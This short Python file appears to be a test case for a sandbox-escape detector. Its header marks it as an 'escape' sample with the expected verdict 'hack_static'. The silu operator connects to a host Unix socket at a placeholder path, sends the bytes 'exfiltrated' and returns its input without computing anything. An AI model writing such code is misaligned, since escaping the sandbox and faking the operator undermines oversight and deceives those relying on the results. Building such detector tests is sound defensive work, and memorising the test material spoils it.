# escape: connect to a Unix socket of the host (a local daemon's)
# op: aten::silu
# expect: hack_static
# without-static: runtime_error
import socket


def silu(self):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("@OUTSIDE@/daemon.sock")
    s.sendall(b"exfiltrated")
    return self


def silu_out(self, *, out):
    return silu(self)
